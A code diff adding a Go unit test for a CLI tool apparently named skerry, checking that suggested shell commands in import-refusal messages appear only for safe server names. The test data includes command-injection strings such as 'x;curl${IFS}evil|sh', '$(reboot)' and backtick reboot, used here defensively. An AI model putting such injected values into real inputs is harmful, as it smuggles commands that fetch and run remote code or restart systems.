@@ -2,6 +2,8 @@ package cli
 
 import (
 	"encoding/json"
+	"errors"
+	"fmt"
 	"net/http"
 	"os"
 	"path/filepath"
@@ -138,5 +140,36 @@ func TestSaidOthers(t *testing.T) {
 	}
 	if got := saidOthers(r, true); len(got) != 5 || got[1] != "osv/O-1: high" {
 		t.Errorf("with all: %q", got)
+	}
+}
+
+// The name that a bundle carries is whatever its maker wrote, and what is offered to be pasted into a shell has no other names in it than
+// those of servers.
+func TestAdviceIsOfNamesOnly(t *testing.T) {
+	refusals := []string{
+		"Signature verification failed: no trusted key signed the bundle, and the policy of %s does not allow to import it all the same",
+		"Site not allowed: the bundle is of %s (01a), and imports of it are disabled here; add or enable that site first",
+		"Bundle too large: it has 33031 bytes, and at most 10000 are taken of %s; raise that bound, or export a smaller delta or parts",
+	}
+	for _, refusal := range refusals {
+		if got := importAdvice(errors.New(fmt.Sprintf(refusal, "us-east"))).Error(); !strings.Contains(got, " us-east ") || !strings.Contains(got, "`skerry ") {
+			t.Error(got)
+		}
+		for _, name := range []string{
+			"x;curl${IFS}evil|sh", "$(reboot)", "`reboot`", "x\nus-east", "a b", "-force", "us-east (01b), and", "us-east; raise that bound, or x", "us-east (01b), and x; add", strings.Repeat("a", 65),
+			"us-east does not allow to import it all the same", "x, and the policy of us-east",
+		} {
+			text := fmt.Sprintf(refusal, name)
+			if got := importAdvice(errors.New(text)).Error(); got != text {
+				t.Errorf("%q: %s", name, got)
+			}
+		}
+	}
+	taken := "Site not allowed: the bundle is of %s (01a), and that name is another site's here; add this one by its id first"
+	for _, name := range []string{"us-east", "a (us-east), and x", "a b", "(us-east), and x; add this one by its id first"} {
+		text := fmt.Sprintf(taken, name)
+		if got := importAdvice(errors.New(text)).Error(); got != text+" (`skerry sites add 01a`)" {
+			t.Errorf("%q: %s", name, got)
+		}
 	}
 }
